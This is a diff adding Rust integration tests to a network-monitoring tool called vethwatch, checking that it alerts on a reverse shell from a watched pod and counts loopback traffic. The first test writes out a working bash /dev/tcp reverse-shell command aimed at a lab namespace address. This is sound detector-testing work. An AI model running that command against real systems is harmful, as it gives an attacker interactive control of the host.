@@ -333,6 +333,85 @@ fn takes_up_an_interface_that_comes_back_and_ends_with_the_last() {
     assert_eq!(own.count(), 10, "the new address is the pod's too: {flows:?}");
 }
 
+/// By its second interface: it begins while the pod is watched, and is open when the pod ends.
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn a_shell_ends_with_the_pod_and_is_the_same_in_a_replay() {
+    let mut lab = Lab::new();
+    let (records, kept) = (lab.path("records.json"), lab.path("kept"));
+    let watcher = watch_with(
+        &mut lab,
+        &["--output", records.to_str().unwrap(), "--write", kept.to_str().unwrap()],
+    );
+    let (pod, other) = (lab.pod.clone(), lab.other.clone());
+    let flood = lab.start(within(&pod, "python3").args(["-c", FLOOD, "2", "10"]));
+    lab.children[flood].wait().unwrap();
+    ip(&format!("link add eth7 netns {pod} type veth peer name eth7 netns {other}"));
+    for (namespace, address) in [(&pod, "10.214.7.1/24"), (&other, "10.214.7.2/24")] {
+        ip(&format!("-n {namespace} addr add {address} dev eth7"));
+        ip(&format!("-n {namespace} link set eth7 up"));
+    }
+    lab.hears(watcher, "watching eth7 too");
+    let listener = lab.python(&other, &LISTEN.replace(ATTACKER, "10.214.7.2"));
+    lab.hears(listener, "listening");
+    let shell = "exec 3<>/dev/tcp/10.214.7.2/4444; exec sh <&3 >&3 2>&3";
+    lab.start(within(&pod, "bash").args(["-c", shell]));
+    thread::sleep(Duration::from_secs(1));
+    let mut typing = lab.children[listener].stdin.take().unwrap();
+    typing.write_all(b"id\n").unwrap();
+    lab.hears(listener, "uid=");
+    until(Duration::from_secs(2), || !alerts(&records).is_empty());
+    for name in ["eth0", "eth7"] {
+        ip(&format!("-n {pod} link del {name}"));
+    }
+    assert_eq!(lab.children[watcher].wait().unwrap().code(), Some(0), "{}", lab.log(watcher));
+
+    let replayed = lab.path("replayed.json");
+    let status = Command::new(VETHWATCH)
+        .args(["replay", "--no-progress", "--format", "eve", "--output"])
+        .args([&replayed, &kept])
+        .status();
+    assert!(status.unwrap().success());
+    let told = |records: &Path| {
+        let told = |alert: serde_json::Value| {
+            let (state, uid) = (&alert["vethwatch"]["state"], &alert["vethwatch"]["alert_uid"]);
+            format!("{state} {uid} {} {}", alert["container"], alert["kubernetes"])
+        };
+        alerts(records).into_iter().map(told).collect::<Vec<_>>()
+    };
+    let live = told(&records);
+    assert!(live[0].starts_with("\"open\"") && live[0].contains("web-0"), "{live:?}");
+    assert!(live.last().unwrap().starts_with("\"close\""), "{live:?}");
+    assert_eq!(told(&replayed), live);
+}
+
+#[test]
+#[ignore = "needs root and network namespaces"]
+fn loopback_is_recorded_and_counted_once() {
+    let mut lab = Lab::new();
+    let records = lab.path("records.json");
+    let watcher = watch_with(&mut lab, &["--loopback", "--output", records.to_str().unwrap()]);
+    lab.hears(watcher, "loopback gives flow, dns and tls records and no findings");
+    let pod = lab.pod.clone();
+    let local = FLOOD.replace(ATTACKER, "127.0.0.1").replace("sendto", "setblocking(0);s.sendto");
+    let sender = lab.start(within(&pod, "python3").args(["-c", &local, "20", "10"]));
+    assert!(lab.children[sender].wait().unwrap().success());
+    thread::sleep(Duration::from_millis(300));
+    lab.end(watcher);
+    let text = fs::read_to_string(&records).unwrap();
+    let flows = of_kind(&text, "flow");
+    let own = || flows.iter().filter(|flow| flow["in_iface"] == "lo");
+    assert_eq!(own().filter(|flow| flow["proto"] == "UDP").count(), 20, "{flows:?}");
+    let stats = of_kind(&text, "stats").pop().unwrap();
+    let interfaces = stats["vethwatch"]["interfaces"].as_array().unwrap();
+    let loopback = interfaces.iter().find(|interface| interface["name"] == "lo").unwrap();
+    let packets = |flow: &serde_json::Value| {
+        ["pkts_toserver", "pkts_toclient"].map(|way| flow["flow"][way].as_u64().unwrap())
+    };
+    let all: u64 = own().flat_map(packets).sum();
+    assert_eq!(loopback["passed_frames"], all, "{stats}");
+}
+
 #[test]
 #[ignore = "needs root and network namespaces"]
 fn an_interface_that_was_named_and_goes_is_no_end_of_the_pod() {
